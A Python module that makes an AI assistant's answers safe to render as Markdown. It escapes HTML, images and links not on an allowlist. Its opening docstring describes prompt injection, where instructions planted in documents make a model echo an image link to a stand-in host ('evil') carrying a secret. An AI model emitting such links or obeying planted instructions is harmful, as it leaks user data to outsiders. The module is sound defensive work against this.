"""Make model output safe to render as Markdown: no raw HTML, no images, no links off the allowlist.

Model output may echo instructions planted in documents (``![x](http://evil/?q=secret)``), so every
answer passes through :func:`sanitize_markdown` before it reaches ``st.markdown``.

Rather than recognising every link and image form (nested and escaped brackets, reference definitions
inside lists and quotes, autolinks), the sanitiser escapes the characters that start them — ``[``,
``]``, ``<`` — everywhere, then restores only the citation markers ``[n]``, and only where they cannot
take part in link syntax. Bare URLs that GitHub-flavoured Markdown would turn into links are shown as
code. Allowlisted links are kept verbatim.
"""

from __future__ import annotations

import re
from collections.abc import Collection
from urllib.parse import urlsplit

_LINK = re.compile(r"\[([^\[\]\n]{0,200})\]\((https?://[^\s()<>]+)\)")
_BARE_URL = re.compile(
    r"(?<![\w`])(?:(?:https?|ftp|file|javascript|data|vbscript|mailto):|www\.|//(?=[\w.-]+\.[a-z]{2,}))"
    r"[^\s`]*",
    re.IGNORECASE,
)
_ESCAPED_MARKER = re.compile(r"\\\[(\d{1,3})\\\](?![(\[:]|\\\[)")
_PLACEHOLDER = re.compile("\x00(\\d+)\x00")


def _allowed(url: str, allowed_hosts: Collection[str]) -> bool:
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    return parts.scheme in {"http", "https"} and (parts.hostname or "") in allowed_hosts


def sanitize_markdown(text: str, allowed_hosts: Collection[str] = ()) -> str:
    """Return ``text`` safe to render: HTML escaped, images and foreign links inert, ``[n]`` kept."""
    text = text.replace("\x00", "")
    kept: list[str] = []

    def keep(match: re.Match[str]) -> str:
        if not _allowed(match.group(2), allowed_hosts):
            return match.group(0)
        kept.append(match.group(0))
        return f"\x00{len(kept) - 1}\x00"

    if allowed_hosts:
        text = _LINK.sub(keep, text)

    def bare(match: re.Match[str]) -> str:
        url = match.group(0)
        if _allowed(url, allowed_hosts):
            return url
        return "`" + url.replace("`", "") + "`"

    text = text.replace("\\", "\\\\").replace("[", "\\[").replace("]", "\\]").replace("<", "&lt;")
    text = _BARE_URL.sub(bare, text)
    text = _ESCAPED_MARKER.sub(r"[\1]", text)
    return _PLACEHOLDER.sub(lambda m: kept[int(m.group(1))], text)
